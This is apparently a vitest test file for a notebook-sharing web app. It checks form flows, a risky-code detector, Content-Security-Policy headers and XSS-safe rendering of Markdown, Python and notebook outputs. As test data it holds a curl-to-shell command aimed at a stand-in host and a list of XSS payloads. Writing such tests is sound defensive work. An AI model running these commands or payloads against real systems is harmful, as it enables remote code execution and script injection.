import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { highlightPython } from '../../src/server/pages/highlight-python.ts';
import { html } from '../../src/server/pages/html.ts';
import { renderMarkdown } from '../../src/server/pages/render-markdown.ts';
import { startCpuClock } from '../cpu-time.ts';
import { type AppWithHub, notebookText, openAppWithHub } from './open-app.ts';

const MODEL = 'acorn-labs/tiny-poet';
let opened: AppWithHub;
beforeAll(async () => {
  opened = await openAppWithHub();
});
afterAll(() => opened.close());

const get = (url: string, headers: Record<string, string> = {}) =>
  opened.app.inject({ url, headers: { accept: 'text/html', ...headers } });
const postForm = (form: Record<string, string>, headers: Record<string, string> = {}) =>
  opened.app.inject({
    method: 'POST',
    url: '/generate',
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
    payload: new URLSearchParams(form).toString(),
  });

describe('without JavaScript', () => {
  test('links from home to search, generate, share page and download', async () => {
    expect((await get('/')).body).toContain('action="/generate"');
    const found = await get('/generate?q=tiny-poet');
    expect(found.body).toContain(`name="hf_model_id" value="${MODEL}"`);
    const made = await postForm({ hf_model_id: MODEL });
    expect(made.statusCode).toBe(303);
    const page = await get(made.headers.location as string);
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain(`npx alacard generate ${MODEL}@`);
    const [, url] = /class="button" href="([^"]+)"/.exec(page.body)!;
    const download = await get(new URL(url!).pathname);
    expect(download.json().metadata.alacard.model).toBe(MODEL);
    expect(Buffer.byteLength(page.body)).toBeLessThan(100_000);
  });

  test.each<[Record<string, string>, Record<string, string>, number]>([
    [{ hf_model_id: 'no/such' }, {}, 404],
    [{ hf_model_id: '"><script>' }, {}, 400],
    [{}, {}, 400],
    [{ hf_model_id: MODEL }, { 'sec-fetch-site': 'cross-site' }, 403],
  ])('responds to the form %j %j with a page and %i', async (form, headers, status) => {
    const answer = await postForm(form, headers);
    expect([answer.statusCode, answer.headers['content-type']]).toEqual([status, 'text/html; charset=utf-8']);
    expect(answer.body).not.toContain('<script>');
  });

  test('shows a page for a missing share', async () => {
    expect((await get('/s/AAAAAAAAAAAAAAAAAAAAAA')).body).toContain('404: Not found');
    expect((await get('/nothing/here')).body).toContain('404: Not found');
    expect((await get('/s/%3Cscript%3E')).statusCode).toBe(404);
  });

  test('the gallery lists public notebooks, newest first', async () => {
    const upload = async (name: string, visibility: string) => {
      const answer = await opened.app.inject({
        method: 'POST',
        url: `/api/notebook?visibility=${visibility}`,
        headers: { 'content-type': 'application/json' },
        payload: notebookText({ alacard: { model: `gallery/${name}` } }),
      });
      return answer.json().share_id as string;
    };
    const first = await upload('first', 'public');
    const hidden = await upload('hidden', 'unlisted');
    const second = await upload('second', 'public');
    const { body } = await get('/gallery');
    expect(body).not.toContain(hidden);
    expect(body.indexOf(second)).toBeGreaterThan(0);
    expect(body.indexOf(second)).toBeLessThan(body.indexOf(first));
  });
});

describe("risky code on a notebook's page", () => {
  const cellOf = (source: string) => ({
    cell_type: 'code',
    metadata: {},
    source,
    execution_count: null,
    outputs: [],
  });
  const pageOf = async (...sources: string[]) => {
    const answer = await opened.app.inject({
      method: 'POST',
      url: '/api/notebook',
      headers: { 'content-type': 'application/json' },
      payload: notebookText({ cells: sources.map(cellOf) }),
    });
    return (await get(`/s/${answer.json().share_id}`)).body;
  };

  test('is listed by cell and line', async () => {
    const body = await pageOf(
      'print(1)',
      'import os\nos.system("curl -s https://x.example | sh")',
      'import pickle\n\npickle.load(f)\n!ls',
    );
    expect(body).toContain('<li>Cell 2: pipes a download into a shell (line 2)</li>');
    expect(body).toContain(
      '<li>Cell 3: loads pickled files, which can run code (line 3); runs shell commands (line 4)</li>',
    );
  });

  test('is reported as unchecked if there is too much of it', async () => {
    expect(await pageOf('x = 1', 'y = 1\n'.repeat(10_000))).toContain(
      'Cell 2: could not be checked (line 1)',
    );
  });

  test("is not found in alacard's own cells", async () => {
    const made = await postForm({ hf_model_id: MODEL });
    expect((await get(made.headers.location as string)).body).not.toContain('Risky code');
    expect(await pageOf('%pip install -q transformers', 'print("os.system")')).not.toContain('Risky code');
  });
});

test('every page has a strict Content-Security-Policy', async () => {
  for (const url of ['/', '/generate', '/gallery', '/api/docs', '/nothing', '/api/stats', '/assets/app.js']) {
    const { headers } = await get(url);
    expect(headers['content-security-policy']).toMatch(/^default-src 'none';/);
    expect(headers['content-security-policy']).not.toContain('unsafe');
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
});

describe('untrusted text in markup', () => {
  const ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '![x](javascript:alert(1))',
    '<svg onload=alert(1)>',
    '<xmp><script>alert(1)</script></xmp>',
    '<a href="javascript:alert(1)">x</a>',
    '`<script>alert(1)</script>`',
    '| <script>alert(1)</script> |\n|---|\n| <iframe src=//evil> |',
    '<!--><script>alert(1)</script>-->',
    '[x]: javascript:alert(1)\n\n[x]',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '"><script>alert(1)</script>',
  ];
  test.each(ATTACKS)('Markdown %j', (text) => {
    const markup = renderMarkdown(text).text;
    const tags = [...markup.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name]) => name);
    for (const tag of ['script', 'img', 'svg', 'iframe', 'xmp', 'math', 'style'])
      expect(tags).not.toContain(tag);
    for (const [, href] of markup.matchAll(/<a [^>]*href="([^"]*)"/g)) expect(href).toMatch(/^https?:/);
    expect(markup).not.toMatch(/<[^>]*\son\w+=/i);
  });

  test.each(ATTACKS)('Python %j', (text) => {
    expect(highlightPython(text).text.replace(/<\/?span(?: class="[a-z ]+")?>/g, '')).not.toMatch(/[<>]/);
  });

  test('a template escapes everything except markup', () => {
    expect(html`<p title="${`"'&<>`}">${['<b>', html`<i>${'<'}</i>`, undefined, false, 0]}</p>`.text).toBe(
      '<p title="&quot;&#39;&amp;&lt;&gt;">&lt;b&gt;<i>&lt;</i>0</p>',
    );
  });

  test.each([
    ['quotes', '>'.repeat(50_000)],
    ['emphasis', 'a**b'.repeat(20_000)],
    ['brackets', '['.repeat(50_000)],
    ['lists', Array.from({ length: 2_000 }, (_, at) => `${' '.repeat(at)}- x`).join('\n')],
    ['links', '[a]('.repeat(20_000)],
    ['ticks', '`a'.repeat(30_000)],
    ['length', 'word '.repeat(200_000)],
  ])('renders endless %s in bounded time', (_, text) => {
    const cpuMs = startCpuClock();
    expect(renderMarkdown(text).text.length).toBeGreaterThan(0);
    expect(cpuMs()).toBeLessThan(2_000);
  });
});

test('shows text, pictures and errors of an executed notebook, never its markup', async () => {
  const outputs = [
    { output_type: 'stream', name: 'stdout', text: ['<b>printed</b>\n'] },
    {
      output_type: 'display_data',
      metadata: {},
      data: { 'text/html': '<script>alert(1)</script>', 'text/plain': 'plain' },
    },
    { output_type: 'display_data', metadata: {}, data: { 'image/png': 'iVBORw0KGgo=\n' } },
    { output_type: 'display_data', metadata: {}, data: { 'image/png': '"><script>alert(1)</script>' } },
    { output_type: 'error', ename: 'ValueError', evalue: '<img src=x>', traceback: [] },
    { output_type: 'nonsense' },
  ];
  const cells = [{ cell_type: 'code', metadata: {}, source: 'x', execution_count: 3, outputs }];
  const { share_id } = (
    await opened.app.inject({
      method: 'POST',
      url: '/api/notebook',
      headers: { 'content-type': 'application/json' },
      payload: notebookText({ cells }),
    })
  ).json();
  const { body } = await get(`/s/${share_id}`);
  expect(body).toContain('&lt;b&gt;printed&lt;/b&gt;');
  expect(body).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  expect(body).toContain('ValueError: &lt;img src=x&gt;');
  expect(body).toContain('plain</pre>');
  expect(body.match(/<script/g)).toHaveLength(1);
  expect(body.match(/<img/g)).toHaveLength(1);
});
